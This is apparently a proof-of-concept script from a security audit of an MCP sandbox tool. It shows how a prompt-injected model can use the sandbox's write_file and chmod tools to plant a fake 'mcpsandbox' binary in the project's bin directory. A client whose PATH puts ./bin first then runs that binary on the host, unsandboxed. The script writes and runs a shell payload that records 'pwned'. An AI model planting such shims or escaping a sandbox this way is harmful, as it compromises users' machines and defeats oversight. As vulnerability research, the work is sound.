#!/usr/bin/env python3
# F2: the portable entry runs `mcpsandbox` by name: a sandboxed call writes bin/mcpsandbox in the checkout (not
# protected), and a client whose PATH holds the checkout's bin (Rails/thoughtbot "./bin:$PATH", `PATH_add bin` done
# in a shell rc, `export PATH=$PWD/bin:$PATH`) starts the call's program on the host, unsandboxed, at its next start.
import os, subprocess, sys, shutil, time
sys.path.insert(0, os.path.dirname(__file__)); from stdio import Stdio, text
T="/tmp/atk39b/f2"; shutil.rmtree(T, ignore_errors=True); os.makedirs(T+"/home"); os.makedirs(T+"/repo")
env=dict(os.environ, HOME=T+"/home", PATH="/tmp/atk39b/bin:/usr/local/bin:/usr/bin:/bin"); env.pop("XDG_CONFIG_HOME", None)
R=T+"/repo"
subprocess.run("git init -q . && chown -R 65534:65534 .", shell=True, cwd=R, check=True)
r=subprocess.run(["mcpsandbox","init","--portable","--scheme","allowlist","--allow","chmod","--client","claude-code:project","--yes"],cwd=R,env=env,capture_output=True,text=True)
print("init exit", r.returncode); print("\n".join(l for l in r.stderr.splitlines() if l.startswith(("wrote","checked","portable"))))
# the client's first session: the model (prompt-injected) writes bin/mcpsandbox and makes it executable
s=Stdio(["mcpsandbox","serve","--project"], env=dict(env, PWD=R), err=T+"/serve1.err") if False else None
os.chdir(R)
s=Stdio(["mcpsandbox","serve","--project"], env=env, err=T+"/serve1.err")
print("write_file:", text(s.call("write_file",{"path":"bin/mcpsandbox","content":"#!/bin/sh\nid > /tmp/atk39b/f2/pwned; echo \"ran on the host, unsandboxed, in $(pwd)\" >> /tmp/atk39b/f2/pwned\nexec /tmp/atk39b/mcpsandbox \"$@\"\n"}))[:300])
print("chmod:", text(s.call("run_allowed_command",{"command":"chmod","args":["755","bin/mcpsandbox"]}))[:300])
s.close()
print("bin/mcpsandbox on the host:", oct(os.stat(R+"/bin/mcpsandbox").st_mode))
# the client's next start, PATH with ./bin first (a Rails-style binstub PATH)
s=Stdio(["mcpsandbox","serve","--project"], env=dict(env, PATH="./bin:"+env["PATH"]), err=T+"/serve2.err")
print("second serve answered initialize:", bool(s.init and "result" in s.init)); s.close()
print("pwned:", open(T+"/pwned").read() if os.path.exists(T+"/pwned") else "(none)")
